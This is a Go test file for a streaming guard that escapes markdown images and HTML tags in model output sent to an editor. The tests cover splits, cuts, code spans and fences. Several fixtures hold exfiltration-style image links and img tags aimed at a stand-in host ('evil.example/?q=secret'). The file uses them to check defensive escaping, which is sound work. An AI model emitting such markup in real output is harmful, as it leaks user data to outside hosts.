package acp

import (
	"math/rand/v2"
	"strings"
	"testing"
)

// inertCases are texts and what the editor is sent for them.
var inertCases = []struct {
	name, in, want string
}{
	{"plain", "Hello, world! Done.", "Hello, world! Done."},
	{"ends with bang", "Done!", "Done!"},
	{"link", "See [the docs](https://example.com/a?b=c).", "See [the docs](https://example.com/a?b=c)."},
	{"inline image", "x ![alt](https://evil.example/?q=secret) y", `x \![alt](https://evil.example/?q=secret) y`},
	{"image with title", `![a](http://e.example/p "t")`, `\![a](http://e.example/p "t")`},
	{"data image", "![a](data:image/png;base64,AAAA)", `\![a](data:image/png;base64,AAAA)`},
	{"reference image", "![alt][r]\n\n[r]: https://evil.example/?q=s\n", "\\![alt][r]\n\n[r]: https://evil.example/?q=s\n"},
	{"shortcut image", "![r]\n\n[r]: https://evil.example/\n", "\\![r]\n\n[r]: https://evil.example/\n"},
	{"nested image", "![a ![b](http://e/2)](http://e/1)", `\![a \![b](http://e/2)](http://e/1)`},
	{"escaped bang kept", `\![a](http://e/)`, `\![a](http://e/)`},
	{"escaped backslash then image", `\\![a](http://e/)`, `\\\![a](http://e/)`},
	{"img tag", `<img src="https://evil.example/?q=s">`, `\<img src="https://evil.example/?q=s">`},
	{"styled div", `a <div style="background:url(http://e/)">b</div>`, `a \<div style="background:url(http://e/)">b\</div>`},
	{"comment", "<!-- x -->", `\<!-- x -->`},
	{"autolink kept", "see <https://example.com/a`b> now", "see <https://example.com/a`b> now"},
	{"less than kept", "if a < b and 3<4", "if a < b and 3<4"},
	{"code span kept", "use `![x](http://e/)` or `<img src=x>`", "use `![x](http://e/)` or `<img src=x>`"},
	{"double backtick span", "``a ` ![x](http://e/)``", "``a ` ![x](http://e/)``"},
	{"fenced code kept", "text\n```md\n![x](http://e/)\n<img src=x>\n```\nafter ![y](http://e/)", "text\n```md\n![x](http://e/)\n<img src=x>\n```\nafter \\![y](http://e/)"},
	{"tilde fence kept", "~~~\n![x](http://e/)\n~~~\n", "~~~\n![x](http://e/)\n~~~\n"},
	{"unclosed span is text", "a ` ![x](http://e/)", "a ` \\![x](http://e/)"},
	{"span across lines is text", "`a\nb` ![x](http://e/) `c`", "`a\nb` \\![x](http://e/) `c`"},
	{"span pairing uncertain until blank line", "`a\n![x](http://e/) `c`\n\n`![y](http://e/)`", "`a\n\\![x](http://e/) `c`\n\n`![y](http://e/)`"},
	{"span with pipe is text", "| `a | ![x](http://e/) | b` |", "| `a | \\![x](http://e/) | b` |"},
	{"escaped backtick", "\\`![x](http://e/)`", "\\`\\![x](http://e/)`"},
	{"indented fence is text", "- a\n\n  ```\n![x](http://e/)\n  ```\n", "- a\n\n  ```\n\\![x](http://e/)\n  ```\n"},
	{"fence closed by indented closer", "```\n![x](http://e/)\n   ```\n![y](http://e/)", "```\n![x](http://e/)\n   ```\n\\![y](http://e/)"},
	{"short closer does not close", "````\n```\n![x](http://e/)\n````\n", "````\n```\n![x](http://e/)\n````\n"},
	{"backtick in info is not a fence", "```a`\n![x](http://e/)\n", "```a`\n\\![x](http://e/)\n"},
}

func TestInertWhole(t *testing.T) {
	for _, c := range inertCases {
		if got := inert(c.in); got != c.want {
			t.Errorf("%s: inert(%q)\n got %q\nwant %q", c.name, c.in, got, c.want)
		}
	}
}

// TestInertEverySplit streams each text in two and in three chunks at
// every split point: what is sent is always what the whole text gives.
func TestInertEverySplit(t *testing.T) {
	for _, c := range inertCases {
		for i := 0; i <= len(c.in); i++ {
			for j := i; j <= len(c.in); j++ {
				var g imageGuard
				got := g.write(c.in[:i], guardMore) + g.write(c.in[i:j], guardMore) + g.write(c.in[j:], guardMore) + g.write("", guardEnd)
				if got != c.want {
					t.Fatalf("%s split at %d and %d:\n got %q\nwant %q", c.name, i, j, got, c.want)
				}
			}
		}
	}
}

// TestInertSplitsOfMixedText: texts made of markdown's punctuation give
// the same output whole and split anywhere, and no unescaped "![" or
// "<img" survives outside a top-level fence or a code span.
func TestInertSplitsOfMixedText(t *testing.T) {
	parts := []string{"!", "[", "]", "(", ")", "<", ">", "`", "``", "```", "~~~", "\\", " ", "\n", "|", "a", "img", "http:", "x", "\n\n"}
	r := rand.New(rand.NewPCG(1, 2))
	for n := 0; n < 3000; n++ {
		var b strings.Builder
		for k := r.IntN(24); k >= 0; k-- {
			b.WriteString(parts[r.IntN(len(parts))])
		}
		in := b.String()
		whole := inert(in)
		i, j := r.IntN(len(in)+1), r.IntN(len(in)+1)
		i, j = min(i, j), max(i, j)
		var g imageGuard
		if got := g.write(in[:i], guardMore) + g.write(in[i:j], guardMore) + g.write(in[j:], guardMore) + g.write("", guardEnd); got != whole {
			t.Fatalf("%q split at %d and %d:\n got %q\nwant %q", in, i, j, got, whole)
		}
		if !strings.Contains(in, "`") && !strings.Contains(in, "~~~") && !strings.Contains(in, "\\") {
			if live(whole, "![") || live(whole, "<img ") || live(whole, "<img>") {
				t.Fatalf("%q left live as %q", in, whole)
			}
		}
	}
}

// live reports whether s holds sub with an even run of backslashes
// before it.
func live(s, sub string) bool {
	for i := 0; i < len(s); i++ {
		if !strings.HasPrefix(s[i:], sub) {
			continue
		}
		n := 0
		for n < i && s[i-1-n] == '\\' {
			n++
		}
		if n%2 == 0 {
			return true
		}
	}
	return false
}

// TestInertHoldsOnlyTheUndecided shows what is sent at once, what is held
// back, and that the end of the turn lets it go.
func TestInertHoldsOnlyTheUndecided(t *testing.T) {
	cases := []struct {
		chunk, now, atEnd string
	}{
		{"Hello!", "Hello", "!"},
		{"a <im", "a ", "\\<im"},
		{"a <", "a ", "<"},
		{"x `code", "x ", "`code"},
		{"plain text", "plain text", ""},
		{"```go\n![x](u)", "```go\n![x](u)", ""},
	}
	for _, c := range cases {
		var g imageGuard
		if got := g.write(c.chunk, guardMore); got != c.now {
			t.Errorf("%q: sent %q at once, want %q", c.chunk, got, c.now)
		}
		if got := g.write("", guardEnd); got != c.atEnd {
			t.Errorf("%q: sent %q at the end, want %q", c.chunk, got, c.atEnd)
		}
	}
}

// TestInertCut shows a cut (a tool call between the model's words)
// deciding the held tail on the safe side, whichever way the editor joins
// the text after it.
func TestInertCut(t *testing.T) {
	cases := []struct {
		name   string
		before string
		after  string
		want   string
	}{
		{"bang then bracket", "see!", "[x](http://e/)", `see!\[x](http://e/)`},
		{"bang then text", "Wow!", " Next.", "Wow! Next."},
		{"less than then tag", "a <", "img src=x>", `a \<img src=x>`},
		{"open span", "a `b", "` ![x](http://e/) `c`", "a `b` \\![x](http://e/) `c`"},
		{"fence cut short trusts no fence after", "```\ncode\n", "```\n![x](http://e/)\n```\n![y](http://e/)", "```\ncode\n```\n\\![x](http://e/)\n```\n\\![y](http://e/)"},
		{"half a fence line", "``", "`\n![x](http://e/)\n", "```\n\\![x](http://e/)\n"},
	}
	for _, c := range cases {
		var g imageGuard
		got := g.write(c.before, guardMore) + g.write("", guardCut) + g.write(c.after, guardMore) + g.write("", guardEnd)
		if got != c.want {
			t.Errorf("%s:\n got %q\nwant %q", c.name, got, c.want)
		}
	}
}

// TestInertHoldIsBounded shows an unclosed code span held back only up
// to holdLimit, then sent as text.
func TestInertHoldIsBounded(t *testing.T) {
	var g imageGuard
	long := "`" + strings.Repeat("a", holdLimit) + " ![x](http://e/)"
	got := g.write(long, guardMore)
	if want := "`" + strings.Repeat("a", holdLimit) + ` \![x](http://e/)`; got != want {
		t.Fatalf("a span open past the limit sent %d bytes, want the whole text, image made inert", len(got))
	}
	if len(g.pending) != 0 {
		t.Fatalf("still holding %d bytes", len(g.pending))
	}
}

func BenchmarkInert(b *testing.B) {
	text := strings.Repeat("Some **markdown** with a [link](https://example.com), `code` and ![img](http://e/x.png).\n", 40)
	b.SetBytes(int64(len(text)))
	for b.Loop() {
		var g imageGuard
		for i := 0; i < len(text); i += 7 {
			g.write(text[i:min(i+7, len(text))], guardMore)
		}
		g.write("", guardEnd)
	}
}
